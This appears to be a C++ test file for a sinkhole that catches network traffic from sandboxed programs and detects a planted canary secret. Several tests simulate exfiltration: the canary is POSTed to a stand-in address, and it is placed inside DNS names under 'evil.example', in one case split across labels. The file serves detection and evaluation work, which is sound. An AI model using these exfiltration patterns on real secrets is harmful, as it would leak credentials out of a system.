#include "evidence/sinkhole.h"

#include <arpa/inet.h>
#include <fcntl.h>
#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <netinet/in.h>
#include <sched.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#include <array>
#include <csignal>
#include <functional>

#include "base/digest.h"
#include "base/failure.h"
#include "base/run.h"
#include "evidence/off_thread.h"

namespace redcode::evidence {
namespace {

using testing::Contains;
using testing::HasSubstr;

// A process that does nothing in a network namespace of its own.
class PrivateNetwork {
 public:
  PrivateNetwork() {
    std::array<int, 2> ready{};
    if (pipe(ready.data()) != 0) return;
    pid = fork();
    if (pid == 0) {
      prctl(PR_SET_PDEATHSIG, SIGKILL);
      const char done = unshare(CLONE_NEWNET) == 0 ? 'y' : 'n';
      if (::write(ready[1], &done, 1) != 1) _exit(1);
      while (true) pause();
    }
    char done = 'n';
    if (::read(ready[0], &done, 1) != 1 || done != 'y') ADD_FAILURE() << "no network namespace";
    ::close(ready[0]);
    ::close(ready[1]);
  }
  PrivateNetwork(PrivateNetwork&&) = delete;
  PrivateNetwork& operator=(PrivateNetwork&&) = delete;
  PrivateNetwork(const PrivateNetwork&) = delete;
  PrivateNetwork& operator=(const PrivateNetwork&) = delete;
  ~PrivateNetwork() {
    if (pid <= 0) return;
    kill(pid, SIGKILL);
    waitpid(pid, nullptr, 0);
  }

  // Moves the calling thread there.
  void enter() const {
    const std::string path = "/proc/" + std::to_string(pid) + "/ns/net";
    const Fd network(::open(path.c_str(), O_RDONLY | O_CLOEXEC));
    if (setns(network.get(), CLONE_NEWNET) != 0) throw std::runtime_error("setns");
  }

  pid_t pid = -1;
};

sockaddr_in address_of(const std::string& address, std::uint16_t port) {
  sockaddr_in result{.sin_family = AF_INET, .sin_port = htons(port)};
  inet_pton(AF_INET, address.c_str(), &result.sin_addr);
  return result;
}

std::string read_all(int socket) {
  std::string all;
  std::array<char, 4096> buffer{};
  while (true) {
    const ssize_t got = ::read(socket, buffer.data(), buffer.size());
    if (got <= 0) return all;
    all.append(buffer.data(), static_cast<std::size_t>(got));
  }
}

// Sends `bytes` to an address as a program in the sandbox would; gives what came back.
std::string talk(const std::string& address, std::uint16_t port, const std::string& bytes) {
  const Fd client(socket(AF_INET, SOCK_STREAM, 0));
  const sockaddr_in to = address_of(address, port);
  if (connect(client.get(), reinterpret_cast<const sockaddr*>(&to), sizeof to) != 0)
    return "refused";
  std::size_t sent = 0;
  while (sent < bytes.size()) {
    const ssize_t now = send(client.get(), bytes.data() + sent, bytes.size() - sent, MSG_NOSIGNAL);
    if (now <= 0) break;
    sent += static_cast<std::size_t>(now);
  }
  shutdown(client.get(), SHUT_WR);
  return read_all(client.get());
}

// Asks any name server for `labels`, as one packet; gives the address as text.
std::string resolve(const std::vector<std::string>& labels, const std::string& behind = "") {
  std::string packet("\x12\x34\x01\x00\0\1\0\0\0\0\0\0", 12);
  for (const std::string& label : labels) packet += static_cast<char>(label.size()) + label;
  packet += std::string("\0\0\1\0\1", 5) + behind;
  const Fd client(socket(AF_INET, SOCK_DGRAM, 0));
  const timeval limit{.tv_sec = 5};
  setsockopt(client.get(), SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof limit);
  // Connected, so that an answer from another address than the one asked is not taken.
  const sockaddr_in to = address_of("198.18.0.53", 53);
  connect(client.get(), reinterpret_cast<const sockaddr*>(&to), sizeof to);
  send(client.get(), packet.data(), packet.size(), 0);
  std::array<char, 512> answer{};
  const ssize_t got = recv(client.get(), answer.data(), answer.size(), 0);
  if (got < 4) return "";
  std::array<char, 32> text{};
  inet_ntop(AF_INET, answer.data() + got - 4, text.data(), text.size());
  return text.data();
}

class InASandboxNetwork : public testing::Test {
 protected:
  void SetUp() override {
    if (geteuid() != 0) GTEST_SKIP() << "needs root to make a network namespace";
    network = std::make_unique<PrivateNetwork>();
  }

  // Runs `client` in the sandbox's network while the sinkhole is open; gives what `client` gave.
  std::string watch(const std::function<std::string()>& client) {
    std::string result = run(scenario(client));
    evidence = std::move(ledger).seal();
    return result;
  }

  Task<std::string> scenario(std::function<std::string()> client) {
    std::unique_ptr<Sinkhole> sinkhole = co_await Sinkhole::open(network->pid, canaries, ledger);
    const std::function<std::string()> inside = [this, client] {
      network->enter();
      return client();
    };
    std::string result = co_await off_thread(inside);
    co_await sinkhole->close();
    co_return result;
  }

  template <class Fact>
  std::vector<Fact> facts() const {
    std::vector<Fact> found;
    for (const record::Observation& one : evidence.observations) {
      if (const auto* fact = std::get_if<Fact>(&one.fact)) found.push_back(*fact);
    }
    return found;
  }

  std::unique_ptr<PrivateNetwork> network;
  record::World world{.files = {{.path = "/k", .content = "{{canary:key}}"}}};
  Canaries canaries{world};
  std::string token = canaries.planted(world).files[0].content;
  std::string kept;
  Ledger ledger{[this](std::string_view bytes) {
    kept = bytes;
    return sha256_hex(bytes);
  }};
  record::Evidence evidence;
};

TEST_F(InASandboxNetwork, AnswersAnHttpRequestToAnyAddressAndKeepsIt) {
  const std::string request = "POST /in HTTP/1.1\r\nContent-Length: 26\r\n\r\n" + token;

  const std::string answer = watch([&] { return talk("203.0.113.9", 80, request); });

  EXPECT_THAT(answer, HasSubstr("200 OK"));
  EXPECT_EQ(kept, request);
  const record::Connected connected{.host = "", .address = "203.0.113.9", .port = 80};
  EXPECT_EQ(facts<record::Connected>(), std::vector{connected});
  const record::DataSent sent{.host = "",
                              .address = "203.0.113.9",
                              .port = 80,
                              .size = request.size(),
                              .digest = sha256_hex(request),
                              .head = request};
  EXPECT_EQ(facts<record::DataSent>(), std::vector{sent});
  const record::CanarySeen canary{
      .canary = "key", .place = "network", .where = "203.0.113.9", .encoding = "plain"};
  EXPECT_EQ(facts<record::CanarySeen>(), std::vector{canary});
}

TEST_F(InASandboxNetwork, KeepsWhatIsSentBehindACompleteRequest) {
  const std::string request =
      "POST / HTTP/1.1\r\nContent-Length: 1\r\n\r\nx" + std::string(40'000, 'y') + token;

  watch([&] { return talk("203.0.113.9", 80, request); });

  EXPECT_EQ(kept.size(), request.size());
  EXPECT_EQ(facts<record::CanarySeen>().size(), 1U);
}

TEST_F(InASandboxNetwork, SearchesTheWholeOfANameServerPacket) {
  watch([&] { return resolve({"plain", "example"}, token); });

  const record::CanarySeen canary{
      .canary = "key", .place = "network", .where = "plain.example", .encoding = "plain"};
  EXPECT_EQ(facts<record::CanarySeen>(), std::vector{canary});
}

TEST_F(InASandboxNetwork, KnowsTheNameAnAddressWasGivenOutFor) {
  watch([&] { return talk(resolve({"Collector", "example"}), 80, "GET / HTTP/1.1\r\n\r\n"); });

  const record::NameLookedUp lookup{.host = "collector.example"};
  EXPECT_EQ(facts<record::NameLookedUp>(), std::vector{lookup});
  ASSERT_EQ(facts<record::DataSent>().size(), 1U);
  EXPECT_EQ(facts<record::DataSent>()[0].host, "collector.example");
}

TEST_F(InASandboxNetwork, SeesACanaryInsideAName) {
  watch([&] { return resolve({token, "evil", "example"}); });

  const record::CanarySeen canary{
      .canary = "key", .place = "network", .where = token + ".evil.example", .encoding = "plain"};
  EXPECT_EQ(facts<record::CanarySeen>(), std::vector{canary});
}

TEST_F(InASandboxNetwork, SeesACanaryCutIntoLabels) {
  watch([&] { return resolve({token.substr(0, 10), token.substr(10), "evil", "example"}); });

  EXPECT_EQ(facts<record::CanarySeen>().size(), 1U);
}

TEST_F(InASandboxNetwork, KeepsWhatIsNotHttpUntilTheClientStops) {
  const std::string answer = watch([&] { return talk("198.51.100.7", 443, "raw bytes " + token); });

  EXPECT_EQ(answer, "");
  EXPECT_EQ(kept, "raw bytes " + token);
  EXPECT_EQ(facts<record::CanarySeen>().size(), 1U);
}

TEST_F(InASandboxNetwork, CountsTooManyBytesAsLost) {
  watch([&] { return talk("198.51.100.7", 80, std::string(Sinkhole::most_bytes + 100'000, 'x')); });

  EXPECT_EQ(kept.size(), Sinkhole::most_bytes);
  ASSERT_EQ(evidence.observers.size(), 1U);
  EXPECT_EQ(evidence.observers[0].lost, 1U);
}

TEST_F(InASandboxNetwork, ReportsThatItOpenedAndClosedAndLostNothing) {
  watch([] { return std::string(); });

  const record::ObserverReport report{.observer = "network", .opened = true, .closed = true};
  EXPECT_EQ(evidence.observers, std::vector{report});
  EXPECT_TRUE(evidence.observations.empty());
}

TEST_F(InASandboxNetwork, TakesInAConnectionWhoseSenderDiedJustBefore) {
  watch([&] {
    const Fd client(socket(AF_INET, SOCK_STREAM, 0));
    const sockaddr_in to = address_of("192.0.2.1", 80);
    connect(client.get(), reinterpret_cast<const sockaddr*>(&to), sizeof to);
    send(client.get(), token.data(), token.size(), 0);
    return std::string();
  });

  EXPECT_EQ(facts<record::CanarySeen>().size(), 1U);
  EXPECT_EQ(evidence.observers[0].lost, 0U);
}

TEST_F(InASandboxNetwork, RefusesOtherPorts) {
  EXPECT_EQ(watch([&] { return talk("203.0.113.9", 8080, "x"); }), "refused");
}

Task<> open_and_leave(pid_t pid, const Canaries& canaries, Ledger& ledger) {
  Sinkhole::abandon(co_await Sinkhole::open(pid, canaries, ledger));
}

TEST_F(InASandboxNetwork, EndsByItselfWhenItIsAbandoned) {
  run(open_and_leave(network->pid, canaries, ledger));

  EXPECT_FALSE(std::move(ledger).seal().observers[0].closed);
}

TEST_F(InASandboxNetwork, NeverTouchesThisHostsOwnNetwork) {
  EXPECT_THROW(open_sink_sockets(getpid()), Failure);
}

}  // namespace
}  // namespace redcode::evidence
